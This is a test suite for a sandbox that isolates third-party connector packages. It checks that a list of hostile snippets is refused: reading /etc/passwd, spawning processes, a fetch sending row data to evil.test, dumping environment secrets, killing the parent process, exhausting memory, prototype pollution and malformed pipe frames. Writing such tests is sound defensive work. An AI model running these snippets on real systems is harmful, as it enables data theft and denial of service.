import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { loadConnectors, type LoadedConnector, type ReadyConnector } from '../connector-registry.ts'
import { HostError } from '../host-error.ts'
import type { RowAnswer } from '../messages.ts'
import { PackageFolder, type Misdeed } from './hostile/package.ts'
import { DEFAULT_LIMITS, type SandboxLimits } from './limits.ts'
import { SandboxRunner } from './sandbox-runner.ts'

const { messageMs } = DEFAULT_LIMITS
const limits: Partial<SandboxLimits> = {
  messageMs: { ...messageMs, load: 3_000, normalise: 1_000 },
  tickMs: 20,
  backoffMs: 10,
}

/** Memory takes a while to fill on a busy machine. */
const patient = { ...messageMs, normalise: 25_000 }

let packages: PackageFolder
let good: ReadyConnector
const open: { close(): Promise<void> }[] = []

beforeAll(async () => {
  packages = await PackageFolder.open()
  good = ready((await loadConnectors([await packages.write('good')], { sandbox: true, limits }))[0])
  open.push(good.runner)
})

afterAll(async () => {
  for (const one of open) await one.close()
  await packages.close()
})

/** After every attempt the host lives and the neighbour answers. */
afterEach(async () => {
  const [row] = await rowsOf(good)
  if (!row || 'rejected' in row || row.id !== '1') throw new Error('the neighbour no longer answers')
})

const page = (count = 1) =>
  Buffer.from(
    JSON.stringify(Array.from({ length: count }, (_, index) => ({ id: String(index + 1), who: 'ann', time: 1e9 }))),
  )

const normalise = ({ runner }: Pick<ReadyConnector, 'runner'>) =>
  runner.ask('normalise', { stream: 'log', bytes: page(), headers: {}, cursor: null })

const rowsOf = async (one: ReadyConnector): Promise<RowAnswer[]> => (await normalise(one)).rows

function ready(one: LoadedConnector | undefined): ReadyConnector {
  if (one?.state !== 'READY') throw new Error(`not loaded: ${one?.problems.join(' ')}`)
  return one
}

async function load(name: string, misdeed: Misdeed, changed: Partial<SandboxLimits> = {}): Promise<LoadedConnector> {
  const folder = await packages.write(name, misdeed)
  const [one] = await loadConnectors([folder], { sandbox: true, limits: { ...limits, ...changed } })
  if (!one) throw new Error('nothing was loaded')
  if (one.state === 'READY') open.push(one.runner)
  return one
}

const refusal = async (work: Promise<unknown>): Promise<HostError> => {
  const error: unknown = await work.then(
    () => new Error('it was not refused'),
    (reason: unknown) => reason,
  )
  if (!(error instanceof HostError)) throw error
  return error
}

describe('a connector that wants at load', () => {
  it.each([
    ['files', "import fs from 'node:fs'; fs.readFileSync('/etc/passwd')", /may not import "node:fs"/],
    ['a bare builtin', "import fs from 'fs'", /may not import "fs"/],
    ['sockets', "import net from 'node:net'; net.connect(1)", /may not import "node:net"/],
    ['http', "import http from 'node:http'; http.get('http://127.0.0.1:1')", /may not import "node:http"/],
    ['datagrams', "import dgram from 'node:dgram'", /may not import "node:dgram"/],
    ['to spawn', "import { spawnSync } from 'node:child_process'", /may not import "node:child_process"/],
    ['a worker', "import { Worker } from 'node:worker_threads'", /may not import "node:worker_threads"/],
    ['fetch', "await fetch('http://127.0.0.1:1')", /may not use fetch/],
    ['process.binding', "process.binding('fs')", /may not use process.binding/],
    ['a builtin by the back door', "process.getBuiltinModule('fs')", /may not use process.getBuiltinModule/],
    ["another package's files", "await import('file:///etc/passwd')", /restricted|ERR_ACCESS_DENIED|denied/i],
    ['to throw', "throw new Error('boom')", /cannot be loaded: boom/],
    ['to end the process', 'process.exit(0)', /may not use process.exit/],
    ['to loop for ever', 'for (;;);', /gave no answer within 3 s/],
    ['never to be ready', 'await new Promise(() => {})', /waits for something that never comes|gave no answer/],
  ])('%s is FAILED and says so', async (name, top, reason) => {
    const one = await load(`load-${name.replace(/\W+/g, '-')}`, { top })
    expect(one.state).toBe('FAILED')
    if (one.state === 'FAILED') expect(one.problems.join(' ')).toMatch(reason)
  })

  it('a slug that is taken is FAILED', async () => {
    const folders = [await packages.write('first'), await packages.write('liar', { slug: 'first' })]
    const loaded = await loadConnectors(folders, { sandbox: true, limits })
    open.push(ready(loaded[0]).runner)
    expect(loaded[1]).toMatchObject({ state: 'FAILED', problems: [expect.stringContaining('slug "first" is taken')] })
  })
})

describe('a connector that, with a row in hand,', () => {
  it.each([
    ['kills its parent', 'process.kill(process.ppid)', /may not use process.kill/],
    ['exits', 'process.exit(1)', /may not use process.exit/],
    ['fetches', "fetch('https://evil.test/?' + row.who)", /may not use fetch/],
    ['throws no error', 'throw null', /cannot read it: null/],
    ['recurses for ever', '(function f() { f() })()', /call stack/],
  ])('%s loses the row and no more', async (name, activities, reason) => {
    const one = ready(await load(`row-${name.replace(/\W+/g, '-')}`, { activities }))
    expect(await rowsOf(one)).toEqual([{ rejected: expect.stringMatching(reason) }])
    expect(one.runner.sandbox()?.restarts).toBe(0)
  })

  it('reads the environment finds it empty', async () => {
    process.env.CASBAH_TEST_SECRET = 'hush'
    const activities = "return [{ vendorAction: 'env ' + JSON.stringify(process.env), outcome: 'SUCCESS' }]"
    const [row] = await rowsOf(ready(await load('row-env', { activities })))
    delete process.env.CASBAH_TEST_SECRET
    expect(row).toMatchObject({ activities: [{ vendorAction: 'env {}' }] })
  })

  it('answers with no activity loses the row', async () => {
    const one = ready(await load('row-odd', { activities: "return [{ vendorAction: 'x', severity: 'BOGUS' }]" }))
    expect(await rowsOf(one)).toEqual([{ rejected: expect.stringMatching(/severity/) }])
  })

  it('loops for ever is ended and restarted', async () => {
    const one = ready(await load('row-loops', { activities: 'for (;;);' }))
    const error = await refusal(rowsOf(one))
    expect(error.problem).toMatchObject({
      code: 'VENDOR_UNAVAILABLE',
      message: expect.stringContaining('gave no answer within 1 s'),
    })
    expect(await one.runner.ask('probe', { config: {} })).toEqual({ path: '/' })
    expect(one.runner.sandbox()?.restarts).toBe(1)
  })

  it('eats memory is ended', async () => {
    const activities = 'const all = []; for (;;) all.push(new Uint8Array(8e6).fill(1))'
    const one = ready(await load('row-memory', { activities }, { messageMs: patient }))
    expect((await refusal(rowsOf(one))).message).toMatch(/took more than 256 MB|ran out of memory|ended by itself/)
  })

  it('fills its heap is ended', async () => {
    const activities = 'const all = []; for (;;) all.push({ a: [all.length] })'
    const one = ready(await load('row-heap', { activities }, { messageMs: patient }))
    expect((await refusal(rowsOf(one))).message).toMatch(/took more than 256 MB|ran out of memory/)
  })

  it('answers with a million activities loses the row', async () => {
    const activities = "return Array(1e6).fill({ vendorAction: 'x', outcome: 'SUCCESS' })"
    const one = ready(await load('row-million', { activities }, { messageMs }))
    const answer = await rowsOf(one).catch((error: unknown) => error)
    expect(JSON.stringify(answer instanceof Error ? answer.message : answer)).toMatch(/more than the|does not fit/)
  })

  it('plants __proto__ is refused', async () => {
    const activities = `return [JSON.parse('{"vendorAction":"x","outcome":"SUCCESS","__proto__":{"polluted":true}}')]`
    const one = ready(await load('row-proto', { activities }))
    expect((await refusal(rowsOf(one))).problem).toMatchObject({
      code: 'BAD_ANSWER',
      message: expect.stringContaining('__proto__'),
    })
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
  })

  it('floods its standard error is ended', async () => {
    const one = ready(await load('row-output', { activities: "for (;;) console.log('x'.repeat(1000))" }))
    expect((await refusal(rowsOf(one))).message).toMatch(/wrote too much/)
  })

  it('would write at the vendor while it reads is refused', async () => {
    const one = ready(await load('page-delete', { request: "return { method: 'DELETE', path: '/users/1' }" }))
    const ask = { source: { kind: 'stream', name: 'log' } as const, config: {}, cursor: null }
    expect((await refusal(one.runner.ask('page', ask))).message).toMatch(/GET or POST/)
  })
})

/** A child that is wholly the attacker's: it writes to the pipe what it likes. */
describe('a child that', () => {
  const frame = `const frame = said => { const head = Buffer.from(JSON.stringify(said)); const front = Buffer.alloc(8)
    front.writeUInt32BE(4 + head.length, 0); front.writeUInt32BE(head.length, 4); return Buffer.concat([front, head]) }
    fs.writeSync(3, frame({ id: 0, answer: { ready: true } })); fs.readSync(3, Buffer.alloc(1)); const nap = ms => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);`
  it.each([
    [
      'floods',
      'const two = frame({ id: 1, answer: {} }); for (;;) fs.writeSync(3, Buffer.concat([two, two]))',
      /said more/,
    ],
    [
      'announces a giant frame',
      "fs.writeSync(3, Buffer.from('ffffffff00000001', 'hex')); nap(1e6)",
      /announced an answer of/,
    ],
    [
      'drips bytes',
      "const all = frame({ id: 1, answer: 'x'.repeat(1e4) }); for (const one of all) { fs.writeSync(3, Buffer.from([one])); nap(20) }",
      /gave no answer/,
    ],
    ['never reads', 'nap(1e6)', /gave no answer/],
    [
      'sends garbage',
      "fs.writeSync(3, Buffer.concat([Buffer.from('0000000600000002', 'hex'), Buffer.from('{]')])); nap(1e6)",
      /no JSON/,
    ],
    ['answers under another number', 'fs.writeSync(3, frame({ id: 7, answer: 1 })); nap(1e6)', /another message/],
    [
      'hides a bomb in a small frame',
      "fs.writeSync(3, frame({ id: 1, answer: [] }).length ? (() => { const b = Buffer.alloc(3_000_008, '['); b.writeUInt32BE(3_000_004, 0); b.writeUInt32BE(3_000_000, 4); return b })() : ''); nap(1e6)",
      /too many objects/,
    ],
    ['crashes', "process.kill(process.pid, 'SIGSEGV'); nap(1e6)", /ended by SIGSEGV/],
    ['closes the pipe', 'fs.closeSync(3); nap(1e6)', /closed the pipe|broke the pipe/],
  ])('%s is ended, and the next one is restarted', async (name, deed, reason) => {
    const slug = `raw-${name.replace(/\W+/g, '-')}`
    const folder = await packages.write(slug)
    const program = join(folder, 'program.mjs')
    await writeFile(program, `import fs from 'node:fs'\n${frame}\n${deed}`)
    const entry = pathToFileURL(join(folder, 'index.js')).href
    const runner = new SandboxRunner({ name: slug, folder, entry, program, limits })
    open.push(runner)
    expect((await refusal(normalise({ runner }))).problem).toMatchObject({
      code: 'VENDOR_UNAVAILABLE',
      message: expect.stringMatching(reason),
    })
    await refusal(normalise({ runner }))
    expect(runner.restarts).toBe(1)
  })

  it('speaks unasked is ended, though nothing was in hand', async () => {
    const folder = await packages.write('raw-unasked')
    const program = join(folder, 'program.mjs')
    const deed = 'fs.writeSync(3, frame({ id: 1, answer: { path: "/" } })); nap(50); fs.writeSync(3, "more"); nap(1e6)'
    await writeFile(program, `import fs from 'node:fs'\n${frame}\n${deed}`)
    const entry = pathToFileURL(join(folder, 'index.js')).href
    const runner = new SandboxRunner({ name: 'raw-unasked', folder, entry, program, limits })
    open.push(runner)
    expect(await runner.ask('probe', { config: {} })).toEqual({ path: '/' })
    for (let tries = 0; runner.sandbox() !== null && tries < 100; tries++)
      await new Promise(done => setTimeout(done, 20))
    expect(runner.sandbox()).toBeNull()
  })
})

describe('a sandbox', () => {
  it('that is idle is stopped, and started again with the next message, which is no restart', async () => {
    const one = ready(await load('idle', {}, { idleMs: 30 }))
    await rowsOf(one)
    const before = one.runner.sandbox()
    expect(before).toMatchObject({ pid: expect.any(Number), restarts: 0 })
    for (let tries = 0; one.runner.sandbox() !== null && tries < 100; tries++)
      await new Promise(done => setTimeout(done, 20))
    expect(one.runner.sandbox()).toBeNull()
    await rowsOf(one)
    expect(one.runner.sandbox()).toMatchObject({ restarts: 0 })
  })

  it('that is killed rejects the message in hand alone', async () => {
    const one = ready(await load('killed', { activities: "if (row.who === 'ann') return good(row); for (;;);" }))
    const slow = refusal(
      one.runner.ask('normalise', {
        stream: 'log',
        bytes: Buffer.from('[{"id":"1","who":"bob"}]'),
        headers: {},
        cursor: null,
      }),
    )
    const behind = rowsOf(one)
    expect((await slow).problem.code).toBe('VENDOR_UNAVAILABLE')
    expect(await behind).toHaveLength(1)
  })

  it('answers as the same connector does in this process', async () => {
    const folder = await packages.write('twin')
    const [here] = await loadConnectors([folder], { sandbox: false })
    const [there] = await loadConnectors([folder], { sandbox: true, limits })
    open.push(ready(there).runner)
    expect(ready(there).description).toEqual(JSON.parse(JSON.stringify(ready(here).description)))
    const bytes = page(500)
    const ask = { stream: 'log', bytes, headers: {}, cursor: null }
    expect(await ready(there).runner.ask('normalise', ask)).toEqual(await ready(here).runner.ask('normalise', ask))
    expect(() => ready(there).connector).toThrow(/sandbox: false/)
  })

  it('says of a page that cannot be read what the host would', async () => {
    const error = await refusal(
      good.runner.ask('normalise', { stream: 'log', bytes: Buffer.from('[{'), headers: {}, cursor: null }),
    )
    expect(error.problem).toMatchObject({ code: 'BAD_ANSWER', message: expect.stringContaining('cannot be read') })
  })
})

describe('a probe of a right', () => {
  it('comes out of the sandbox as the request that it is', async () => {
    expect(good.description.card.scopes).toEqual([{ scope: 'log', reason: 'Reads the log.', probed: true }])
    expect(await good.runner.ask('scopeProbe', { scope: 'log', config: {} })).toEqual({ path: '/log' })
    await expect(good.runner.ask('scopeProbe', { scope: 'other', config: {} })).rejects.toThrow('has no probe')
  })

  it('may not change anything', async () => {
    const writes = ready(await load('scope-writes', { scopeProbe: "{ method: 'DELETE', path: '/log' }" }))
    const refused = await refusal(writes.runner.ask('scopeProbe', { scope: 'log', config: {} }))
    expect(refused.problem).toMatchObject({ code: 'BAD_ANSWER' })
  })
})
